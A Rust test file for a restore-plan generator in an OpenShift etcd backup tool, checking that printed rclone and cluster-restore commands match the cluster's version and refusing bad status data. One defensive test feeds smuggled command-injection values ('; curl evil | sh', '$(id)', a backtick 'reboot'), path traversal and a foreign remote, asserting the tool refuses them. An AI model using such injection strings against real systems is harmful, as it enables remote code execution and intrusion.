use super::*;

fn spec() -> EtcdBackup {
    serde_yaml::from_str(
        "{schedule: '30 2 * * *', encryption: true, snapshots: {remote: s3, path: snaps/prod, credentialsSecret: etcd-snaps}, keys: {remote: s3keys, path: keys/prod, credentialsSecret: etcd-keys}}",
    )
    .unwrap()
}

fn backup(version: &str) -> EtcdBackupResult {
    EtcdBackupResult {
        job: "etcd-backup-29001".into(),
        time: "2026-12-06T02:30:41Z".into(),
        version: version.into(),
        snapshot: EtcdBackupObject {
            object: "s3:snaps/prod/east-1/snapshot_2026-12-06_023041.db".into(),
            size: 104_857_600,
        },
        keys: EtcdBackupObject {
            object: "s3keys:keys/prod/east-1/static_kuberesources_2026-12-06_023041.tar.gz".into(),
            size: 81_920,
        },
    }
}

fn observed(current: &str, newest: &str) -> EtcdBackupObservation {
    let b = backup(newest);
    EtcdBackupObservation {
        newest: Some(b.clone()),
        newest_at_current_version: (current == newest).then_some(b),
        current_version: Some(current.into()),
        installed: Some("2026-01-01T00:00:00Z".into()),
        encryption: Some(true),
        suspended: false,
    }
}

#[test]
fn the_plan_is_filled_with_the_newest_backup_of_the_current_version() {
    let plan = restore_plan(
        "east-1",
        false,
        &spec(),
        Some(&observed("4.16.12", "4.16.12")),
    )
    .unwrap();
    insta::assert_snapshot!(plan);
    for needle in [
        "rclone copyto s3:snaps/prod/east-1/snapshot_2026-12-06_023041.db backup/snapshot_2026-12-06_023041.db",
        "rclone copyto s3keys:keys/prod/east-1/static_kuberesources_2026-12-06_023041.tar.gz backup/static_kuberesources_2026-12-06_023041.tar.gz",
        "must print 4.16.12",
        "OpenShift 4.16 documentation",
        "cluster-restore.sh /home/core/assets/backup",
        "hubdr never runs this",
    ] {
        assert!(plan.contains(needle), "{needle:?} missing from\n{plan}");
    }
}

#[test]
fn a_hub_gets_the_failover_caution() {
    let plan = restore_plan(
        "hub-a",
        true,
        &spec(),
        Some(&{
            let mut o = observed("4.16.12", "4.16.12");
            for b in [&mut o.newest, &mut o.newest_at_current_version]
                .into_iter()
                .flatten()
            {
                b.snapshot.object = b.snapshot.object.replace("east-1", "hub-a");
                b.keys.object = b.keys.object.replace("east-1", "hub-a");
            }
            o
        }),
    )
    .unwrap();
    assert!(plan.contains("hub-a is an ACM hub"), "{plan}");
    assert!(plan.contains("no failover happened since"), "{plan}");
}

#[test]
fn a_backup_of_another_z_stream_is_refused_with_the_reason() {
    let err = restore_plan(
        "east-1",
        false,
        &spec(),
        Some(&observed("4.16.13", "4.16.12")),
    )
    .unwrap_err();
    assert!(
        err.contains("no backup of east-1 was taken at its current version 4.16.13"),
        "{err}"
    );
    assert!(err.contains("from 4.16.12"), "{err}");
    assert!(err.contains("same z-stream"), "{err}");
}

#[test]
fn no_status_no_backup_and_no_version_are_refused() {
    let err = restore_plan("east-1", false, &spec(), None).unwrap_err();
    assert!(err.contains("has not reported its etcd backups"), "{err}");

    let mut young = observed("4.16.12", "4.16.12");
    young.newest = None;
    young.newest_at_current_version = None;
    young.suspended = true;
    let err = restore_plan("east-1", false, &spec(), Some(&young)).unwrap_err();
    assert!(
        err.contains("no etcd backup yet (backups start once the cluster is 24 h old)"),
        "{err}"
    );

    let mut unknown = observed("4.16.12", "4.16.12");
    unknown.current_version = None;
    let err = restore_plan("east-1", false, &spec(), Some(&unknown)).unwrap_err();
    assert!(
        err.contains("has not reported the cluster's OpenShift version"),
        "{err}"
    );
}

/// The status is untrusted: a reported object outside the site's destination, or one that a
/// shell would read as more than a file name, never reaches the printed commands.
#[test]
fn hostile_objects_and_versions_from_the_status_are_refused() {
    let hostile_objects = [
        "s3:snaps/prod/east-1/snapshot_1.db; curl evil | sh",
        "s3:snaps/prod/east-1/snapshot_$(id).db",
        "s3:snaps/prod/west-1/snapshot_2026-12-06_023041.db",
        "evil:snaps/prod/east-1/snapshot_2026-12-06_023041.db",
        "s3:snaps/prod/east-1/../west-1/snapshot_2026-12-06_023041.db",
        "s3:snaps/prod/east-1/snapshot_.db",
    ];
    for object in hostile_objects {
        let mut o = observed("4.16.12", "4.16.12");
        o.newest_at_current_version
            .as_mut()
            .unwrap()
            .snapshot
            .object = object.into();
        let err = restore_plan("east-1", false, &spec(), Some(&o)).unwrap_err();
        assert!(err.contains("refusing to print it"), "{object}: {err}");
    }
    let mut o = observed("4.16.12", "4.16.12");
    o.newest_at_current_version.as_mut().unwrap().keys.object =
        "s3:snaps/prod/east-1/static_kuberesources_2026-12-06_023041.tar.gz".into();
    let err = restore_plan("east-1", false, &spec(), Some(&o)).unwrap_err();
    assert!(
        err.contains("s3keys:keys/prod/east-1/static_kuberesources_"),
        "{err}"
    );

    for version in ["4.16.12`reboot`", "4.16", "4.16.12-rc.1 x", "4.16.12\n"] {
        let o = observed(version, version);
        let err = restore_plan("east-1", false, &spec(), Some(&o)).unwrap_err();
        assert!(
            err.contains("is not an OpenShift version"),
            "{version:?}: {err}"
        );
    }
    // A pre-release is a version.
    let o = observed("4.17.0-rc.3", "4.17.0-rc.3");
    assert!(restore_plan("east-1", false, &spec(), Some(&o)).is_ok());
}

#[test]
fn a_newest_at_current_version_of_another_version_is_refused() {
    let mut o = observed("4.16.12", "4.16.12");
    o.newest_at_current_version.as_mut().unwrap().version = "4.15.3".into();
    let err = restore_plan("east-1", false, &spec(), Some(&o)).unwrap_err();
    assert!(err.contains("was taken at 4.15.3"), "{err}");
}
